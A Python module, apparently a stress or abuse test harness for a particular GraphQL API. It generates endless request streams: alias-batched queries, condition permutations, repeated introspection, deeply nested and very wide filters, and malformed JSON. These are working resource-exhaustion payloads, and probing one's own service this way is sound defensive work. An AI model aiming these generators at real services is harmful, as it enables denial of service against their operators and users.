"""What costs by its words: new documents, combinations of conditions, introspection, totals, filters, deep and wrong JSON.

Each attack gives requests without end. A customer's own data is enough for all of them.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator, Mapping
from types import MappingProxyType
from typing import Any, Final, TypeAlias

import orjson

Requests: TypeAlias = Callable[[], Iterator[bytes]]

_FIELDS: Final = "id name kind state committedMbps effectiveMbps effect"
_TYPES: Final = "types { name kind description fields { name description args { name } } }"


def _body(query: str, variables: Mapping[str, Any] | None = None) -> bytes:
    return orjson.dumps({"query": query, "variables": dict(variables or {})})


def new_documents() -> Iterator[bytes]:
    """Ask a long document, each time under another operation name."""
    parts = " ".join(f"a{number}: services(first: 1) {{ nodes {{ {_FIELDS} }} }}" for number in range(150))
    for number in itertools.count():
        yield _body(f"query Q{number} {{ {parts} }}")


def conditions() -> Iterator[bytes]:
    """Ask one document with all combinations of twelve conditions."""
    declared = ", ".join(f"$c{number}: Boolean!" for number in range(12))
    parts = " ".join(
        f"a{number}: services(first: 1) @include(if: $c{number}) {{ nodes {{ {_FIELDS} }} }}" for number in range(12)
    )
    for chosen in itertools.cycle(itertools.product((True, False), repeat=12)):
        yield _body(
            f"query({declared}) {{ viewer {{ role }} {parts} }}", {f"c{n}": yes for n, yes in enumerate(chosen)}
        )


def introspection() -> Iterator[bytes]:
    """Ask for the schema many times in one document, the same one and ever new ones."""
    for number in itertools.count():
        several = " ".join(f"a{each}: __schema {{ {_TYPES} }}" for each in range(24))
        yield _body(f"query Schema{number if number % 4 == 0 else ''} {{ {several} }}")


def totals() -> Iterator[bytes]:
    """Count everything that one has, for everything that one has."""
    counted = " ".join(
        f'a{n}: services(first: 0, filter: {{name: {{contains: "{n}"}}}}) {{ totalCount }}' for n in range(90)
    )
    for number in itertools.count():
        first = 600 - number % 5
        yield _body(f"{{ services(first: {first}) {{ nodes {{ customer {{ {counted} }} }} }} }}")


def nested_lists() -> Iterator[bytes]:
    """Walk from the customer to its services and back, again and again."""
    inner = "totalCount"
    for _ in range(4):
        inner = f"nodes {{ customer {{ services(first: 10) {{ {inner} }} }} }}"
    for _ in itertools.count():
        yield _body(f"{{ services(first: 10) {{ {inner} }} }}")


def filters() -> Iterator[bytes]:
    """Filter by hundreds of alternatives, by a megabyte of nothing, and by depth."""
    text = "query($f: ServiceFilter) { services(filter: $f) { totalCount } }"
    deep: dict[str, Any] = {"name": {"contains": "a"}}
    for _ in range(100):
        deep = {"and": [deep]}
    wide = [{"name": {"contains": f"a{number}"}} for number in range(300)]
    for each in itertools.cycle(({"or": wide}, {"or": [{}] * 300_000}, deep, {"and": wide})):
        yield _body(text, {"f": each})


def wrong_json() -> Iterator[bytes]:
    """Send what is no request."""
    text = b'{"query":"' + b"a" * 200_000 + b'"}'
    yield from itertools.cycle((b"[" * 100_000, text, b"\xff\xfe", b"{" * 1_000))


DOCUMENTS: Final[Mapping[str, Requests]] = MappingProxyType(
    {
        "new documents": new_documents,
        "conditions": conditions,
        "introspection": introspection,
        "totals": totals,
        "nested lists": nested_lists,
        "filters": filters,
        "wrong JSON": wrong_json,
    }
)
